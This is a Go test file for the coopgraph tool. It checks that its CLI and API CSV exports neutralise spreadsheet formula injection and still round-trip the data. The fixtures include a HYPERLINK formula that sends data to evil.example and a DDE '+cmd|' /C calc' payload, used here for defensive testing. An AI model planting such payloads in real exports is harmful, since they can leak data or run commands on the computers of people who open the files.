package main

import (
	"encoding/csv"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/coopgraph/coopgraph/loader"
)

// formulaDir is a dataset whose names, aliases and quotes are formulas a
// spreadsheet would run.
func formulaDir(t *testing.T) string {
	return writeFiles(t, map[string]string{
		"nodes.csv": "id,kind,name,aliases,note\n" +
			`malopolskie,Region,"=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",@SUM(1),-2+3` + "\n" +
			`vanguard,Network,+cmd|' /C calc'!A0,,` + "\n" +
			`slaskie,Region,-2+3,'s-Hertogenbosch,` + "\n",
		"edges.csv": "source,target,type,role,document,quote\n" +
			`malopolskie,vanguard,MEMBER_OF,=1+1,002.txt,@SUM(1)` + "\n" +
			`slaskie,vanguard,MEMBER_OF,member,002.txt,"+cmd|' /C calc'!A0"` + "\n",
	})
}

// startsFormula reports whether a spreadsheet could take cell for a formula.
func startsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// formulaFree reads a CSV and returns its records, failing on a formula cell
// in any but the numeric columns.
func formulaFree(t *testing.T, what, body string, numeric ...string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", what, err, body)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if startsFormula(cell) && !slices.Contains(numeric, recs[0][j]) {
				t.Errorf("%s, line %d, column %s: %q starts a formula", what, i+1, recs[0][j], cell)
			}
		}
	}
	return recs
}

// coopgraph export writes the formulas neutralised, as the API does, and
// the tables load back as the dataset.
func TestExportCLINeutralisesFormulas(t *testing.T) {
	dir := formulaDir(t)
	ds, err := loader.LoadDir(dir, filepath.Base(dir))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"nodes.csv", "edges.csv"} {
		code, stdout, errOut := runCmd(t, "export", "--data", dir, "--format", f, "--out", "-")
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", f, code, errOut)
		}
		recs := formulaFree(t, "coopgraph export "+f, stdout)
		if want := httpExport(t, exportHandler(ds), "/export/"+f); stdout != string(want) {
			t.Errorf("%s: the CLI's export differs from the server's:\n%s\nwant\n%s", f, stdout, want)
		}
		formulaFree(t, "GET /export/"+f, string(httpExport(t, exportHandler(ds), "/export/"+f+"?measure=degree")), "degree")
		if f == "nodes.csv" {
			want := []string{"'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")", "'@SUM(1)"}
			if i := slices.IndexFunc(recs, func(r []string) bool { return r[0] == "malopolskie" }); i < 0 || !slices.Equal(recs[i][2:4], want) {
				t.Errorf("malopolskie's name and aliases are not neutralised: %q", recs)
			}
		}
	}
	// Written out and read back: the same dataset.
	out := t.TempDir()
	if code, _, errOut := runCmd(t, "export", "--data", dir, "--format", "csv", "--out", out); code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	back, err := loader.LoadDir(out, ds.Name)
	if err != nil {
		t.Fatalf("the export does not load back: %v", err)
	}
	for i, e := range back.Entities {
		if e.Name != ds.Entities[i].Name || !slices.Equal(e.Aliases, ds.Entities[i].Aliases) {
			t.Errorf("entity %s read back as %q %q, was %q %q", e.ID, e.Name, e.Aliases, ds.Entities[i].Name, ds.Entities[i].Aliases)
		}
	}
}

// coopgraph centrality --format csv too: the rank and score stay numbers.
func TestCentralityCSVNeutralisesFormulas(t *testing.T) {
	code, stdout, errOut := runCmd(t, "centrality", "--data", formulaDir(t), "--measure", "degree", "--top", "0", "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	recs := formulaFree(t, "coopgraph centrality", stdout, "rank", "score")
	names := map[string]bool{}
	for _, r := range recs[1:] {
		names[r[2]] = true
	}
	for _, want := range []string{"'+cmd|' /C calc'!A0", "'-2+3"} {
		if !names[want] {
			t.Errorf("no name %q in %q", want, recs)
		}
	}
}
